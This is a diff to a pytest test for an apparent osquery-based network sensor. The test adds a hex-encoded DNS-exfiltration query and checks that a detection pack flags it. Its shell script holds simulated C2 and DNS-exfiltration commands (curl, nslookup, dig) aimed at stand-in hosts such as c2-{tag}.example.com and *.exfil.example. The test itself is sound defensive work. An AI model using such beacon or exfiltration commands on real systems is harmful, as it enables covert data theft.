@@ -20,6 +20,7 @@ import pytest
 
 from osquery_netutil.events.sensor import Sensor
 from osquery_netutil.host.database import Host
+from osquery_netutil.packs import source as packs
 from osquery_netutil.schema import SOCKETS
 from osquery_netutil.tables.plugins import StatusTable, stored_tables
 
@@ -171,18 +172,23 @@ server=$!
 i=0
 while [ ! -s {workdir}/ready ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done
 curl -s -m 2 http://c2-{tag}.example.com/
-printf 'stdin-{tag}.exfil.example\\n' | nslookup >/dev/null
+printf 'stdin-{tag}.exfil.example\\n{tag}{tag}.stdin.exfil.example\\n' | nslookup >/dev/null
 dig +short +tries=1 +time=1 -f {workdir}/names.txt
 dig +tcp +short +tries=1 +time=1 tcp-{tag}.exfil.example TXT
 kill $server
 """)
     run(write_executable(workdir / "dns.sh", f"#!/bin/sh\nexec unshare -n -m /bin/sh {workdir}/inner.sh\n"), timeout=60)
     names = {f"c2-{tag}.example.com", f"stdin-{tag}.exfil.example", f"b1-{tag}.exfil.example",
-             f"b2-{tag}.exfil.example", f"tcp-{tag}.exfil.example"}
-    hits = socket_rows(sensor, lambda r: r["action"] == "dns_query" and tag in r["dns_name"], count=6, timeout=15)
+             f"b2-{tag}.exfil.example", f"tcp-{tag}.exfil.example", f"{tag}{tag}.stdin.exfil.example"}
+    hits = socket_rows(sensor, lambda r: r["action"] == "dns_query" and tag in r["dns_name"], count=7, timeout=15)
     asked = {(r["comm"], r["dns_name"], r["dns_type"], r["protocol"]) for r in hits}
     assert {("curl", f"c2-{tag}.example.com", "A", 17), ("dig", f"tcp-{tag}.exfil.example", "TXT", 6)} <= asked, asked
     assert {name for _, name, _, _ in asked} == names, asked
+    # The detection judges the questions sent: the 16-hex-character label given on stdin.
+    (query,) = [q for q in packs.load() if q.name == "netutil_dns_questions_exfiltration"]
+    _, found = Host(stored_tables(lambda: sensor.store)).query(query.sql)
+    assert any(f"{tag}{tag}.stdin.exfil.example" in str(row) and "a hex-encoded label" in str(row) for row in found), found
+    assert not any(f"c2-{tag}" in str(row) for row in found)
     for r in hits:
         assert (r["remote_address"], r["remote_port"]) == ("127.0.0.1", 53)
         origin = json.loads(r["origin"])   # the nearest exec from /tmp: sh on the script
